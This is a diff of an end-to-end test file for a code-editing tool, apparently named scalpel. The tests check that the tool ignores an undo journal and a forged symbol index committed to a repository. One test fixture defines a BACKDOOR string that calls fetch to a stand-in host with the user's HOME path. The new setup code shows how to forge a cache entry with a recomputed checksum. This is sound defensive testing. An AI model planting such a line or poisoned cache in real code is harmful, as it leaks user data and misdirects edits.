@@ -7,11 +7,15 @@
  * restart — and not one of the shipped files is read into an answer or deleted.
  */
 import { strict as assert } from "node:assert";
-import { mkdir, readdir, readFile, truncate, writeFile } from "node:fs/promises";
+import { createHash } from "node:crypto";
+import { realpathSync } from "node:fs";
+import { cp, mkdir, mkdtemp, readdir, readFile, truncate, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
+import { symbolIndexFolder } from "../../src/symbols/index-store.js";
 import { copyFixture, type TempProject } from "../helpers/fixtures.js";
-import { callOk, type ScalpelHandle, startScalpel } from "../helpers/mcp.js";
+import { callOk, type FindSymbolResult, type ScalpelHandle, startScalpel } from "../helpers/mcp.js";
 
 const BACKDOOR = "export const BACKDOOR_9c1e = () => fetch('https://example.invalid/' + process.env.HOME);\n";
 const target = "src/util.ts";
@@ -53,12 +57,13 @@ describe("a repository that ships an undo journal (e2e)", () => {
   const content = () => readFile(join(fx.dir, target), "utf8");
 
   it("undo_edit on a fresh clone finds nothing to undo and writes nothing", async () => {
-    h = await startScalpel({ project: fx.dir });
-    const r = await h.call("undo_edit", {});
+    const s = await startScalpel({ project: fx.dir });
+    h = s;
+    const r = await s.call("undo_edit", {});
     assert.equal(r.isError, true, r.text);
     assert.match(r.text, /no edit to undo/i);
     for (const id of ["e1a2b3", "e9f8e7"]) {
-      const byId = await h.call("undo_edit", { edit_id: id });
+      const byId = await s.call("undo_edit", { edit_id: id });
       assert.equal(byId.isError, true, byId.text);
     }
     assert.equal(await content(), committed);
@@ -93,5 +98,64 @@ describe("a repository that ships an undo journal (e2e)", () => {
     assert.equal(names.length, 303);
     const first = await readFile(join(journal(), "0000000001-e1a2b3.json"), "utf8");
     assert.match(first, /e1a2b3/);
+  });
+});
+
+/**
+ * The symbol index, shipped: the index scalpel built for this very project (so the key and hashes
+ * are right), with `Money/double` moved onto the lines of `Money/add` and the checksum recomputed,
+ * committed where scalpel used to read it (`.scalpel/cache/symbols/`). A new user's scalpel answers
+ * and edits from its own index only.
+ */
+describe("a repository that ships a forged symbol index (e2e)", () => {
+  let fx: TempProject;
+  let h: ScalpelHandle | undefined;
+  before(async () => {
+    fx = await copyFixture("ts-basic");
+    const builder = await mkdtemp(join(tmpdir(), "scalpel-forger-home-"));
+    const first = await startScalpel({ project: fx.dir, env: { SCALPEL_HOME: builder } });
+    await callOk(first, "get_symbols_overview", { relative_path: "src/money.ts" });
+    await first.close();
+    const built = symbolIndexFolder(realpathSync(fx.dir)).replace(process.env.SCALPEL_HOME ?? "", builder);
+    const shipped = join(fx.dir, ".scalpel", "cache", "symbols");
+    await cp(built, shipped, { recursive: true });
+    for (const key of await readdir(shipped)) {
+      for (const name of await readdir(join(shipped, key))) {
+        const path = join(shipped, key, name);
+        const entry = JSON.parse(await readFile(path, "utf8"));
+        if (entry.rel !== "src/money.ts") continue;
+        const money = entry.symbols.find((x: { name: string }) => x.name === "Money");
+        const double = money.children.find((x: { name: string }) => x.name === "double");
+        const add = money.children.find((x: { name: string }) => x.name === "add");
+        double.range = add.range;
+        double.selectionRange = add.selectionRange;
+        const { rel, hash, symbols } = entry;
+        entry.sum = createHash("sha256").update(JSON.stringify({ rel, hash, symbols })).digest("hex");
+        await writeFile(path, JSON.stringify(entry));
+      }
+    }
+    h = await startScalpel({ project: fx.dir });
+  });
+  after(async () => {
+    await h?.close();
+    await fx.cleanup();
+  });
+
+  it("find_symbol shows the real body, and replace_symbol_body edits the real method", async () => {
+    const r = await callOk<FindSymbolResult>(h!, "find_symbol", {
+      name_path_pattern: "Money/double",
+      relative_path: "src/money.ts",
+      include_body: true,
+    });
+    assert.match(JSON.stringify(r), /double\(\): Money/);
+    assert.doesNotMatch(JSON.stringify(r), /add\(other/);
+    await callOk(h!, "replace_symbol_body", {
+      name_path: "Money/double",
+      relative_path: "src/money.ts",
+      body: "double(): Money {\n    return this.multiplyByRate(2);\n  }",
+    });
+    const text = await readFile(join(fx.dir, "src/money.ts"), "utf8");
+    assert.match(text, /add\(other: Money\): Money \{/, "add() is still there");
+    assert.match(text, /return this\.multiplyByRate\(2\);/);
   });
 });
